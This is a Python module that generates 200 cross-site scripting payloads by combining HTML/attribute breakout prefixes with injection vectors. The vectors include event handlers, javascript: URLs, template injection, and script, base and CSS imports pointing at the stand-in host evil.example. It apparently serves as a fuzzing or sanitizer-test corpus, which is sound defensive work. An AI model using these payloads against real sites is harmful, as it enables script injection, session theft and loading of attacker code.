"""Two hundred ways in which texts have become scripts somewhere: each vector with each way of breaking out."""

from __future__ import annotations

from itertools import product

__all__ = ["PAYLOADS"]

BREAKOUTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "--><!--",
    "]]>",
    "</mark></p>",
    "\u0000<",
    "%3C",
)
VECTORS = (
    "<script>owned()</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=owned()>",
    "<svg/onload=owned()>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<details open ontoggle=owned()>",
    "<iframe srcdoc='<script>parent.owned()</script>'>",
    "<a href=javascript:owned()>x</a>",
    "<input autofocus onfocus=owned()>",
    "<body onpageshow=owned()>",
    "<math><mtext><table><mglyph><style><img src onerror=owned()>",
    "<form action=javascript:owned()><button>x",
    "<object data=javascript:owned()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:owned()'>",
    "<style>@import'//evil.example'</style>",
    "' onmouseover='owned()' x='",
    '" style="animation-name:x" onanimationstart="owned()"',
    "{{constructor.constructor('owned()')()}}",
    "javascript:owned()",
)
PAYLOADS = tuple(breakout + vector for breakout, vector in product(BREAKOUTS, VECTORS))
